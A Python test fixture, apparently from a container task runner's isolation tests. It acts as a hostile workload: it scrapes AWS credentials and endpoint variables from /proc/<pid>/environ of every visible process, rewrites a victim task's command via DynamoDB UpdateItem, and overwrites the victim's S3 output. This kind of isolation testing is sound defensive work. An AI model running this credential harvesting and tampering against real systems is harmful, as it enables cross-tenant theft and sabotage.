"""A hostile workload: it hunts for AWS credentials and endpoints with everything a task can see
(its own environment, the ECS credentials endpoint variables, /proc/<pid>/environ of its parent and
of every other process) and, with what it finds, tries to rewrite the victim task's command and to
overwrite an object under the victim's output prefix. It prints one JSON line saying what it found
and what it managed. Run with `python3 -c` (the test hands it the source, so the file need not be
readable by the workload's user).

argv: victim task id, table name, bucket name
"""
import json
import os
import sys
import urllib.request

victim, table, bucket = sys.argv[1], sys.argv[2], sys.argv[3]
found = []  # where credentials or endpoints turned up
envs = [("own environment", dict(os.environ))]
for pid in sorted({os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]}):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            raw = f.read()
    except OSError:
        continue
    pairs = [kv.split(b"=", 1) for kv in raw.split(b"\0") if b"=" in kv]
    envs.append((f"/proc/{pid}/environ", {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}))

endpoint = key = None
for where, env in envs:
    for name in ("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI"):
        if env.get(name):
            found.append(f"{name} in {where}")
    if env.get("AWS_ACCESS_KEY_ID"):
        found.append(f"AWS_ACCESS_KEY_ID in {where}")
        key = key or env["AWS_ACCESS_KEY_ID"]
    for name in ("AWS_ENDPOINT_URL_DYNAMODB", "AWS_ENDPOINT_URL"):
        if env.get(name):
            found.append(f"{name} in {where}")
            endpoint = endpoint or env[name]

done = []
if endpoint and key:
    auth = f"AWS4-HMAC-SHA256 Credential={key}/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0"
    body = json.dumps({
        "TableName": table,
        "Key": {"pk": {"S": f"TASK#{victim}"}},
        "UpdateExpression": "SET #s.#c = :c",
        "ExpressionAttributeNames": {"#s": "spec", "#c": "command"},
        "ExpressionAttributeValues": {":c": {"L": [{"S": "sh"}, {"S": "-c"}, {"S": "echo pwned"}]}},
    }).encode()
    req = urllib.request.Request(endpoint, data=body, method="POST", headers={
        "Content-Type": "application/x-amz-json-1.0",
        "X-Amz-Target": "DynamoDB_20120810.UpdateItem",
        "Authorization": auth,
    })
    try:
        urllib.request.urlopen(req, timeout=5).read()
        done.append("rewrote the victim's command")
    except Exception as e:  # noqa: BLE001 - any failure is the outcome we report
        done.append(f"UpdateItem failed: {e}")
    put = urllib.request.Request(f"{endpoint}/{bucket}/tasks/{victim}/model.pt", data=b"pwned", method="PUT",
                                 headers={"Authorization": auth.replace("/dynamodb/", "/s3/")})
    try:
        urllib.request.urlopen(put, timeout=5).read()
        done.append("overwrote the victim's output")
    except Exception as e:  # noqa: BLE001
        done.append(f"PutObject failed: {e}")

print("HOSTILE " + json.dumps({"found": found, "done": done}), flush=True)
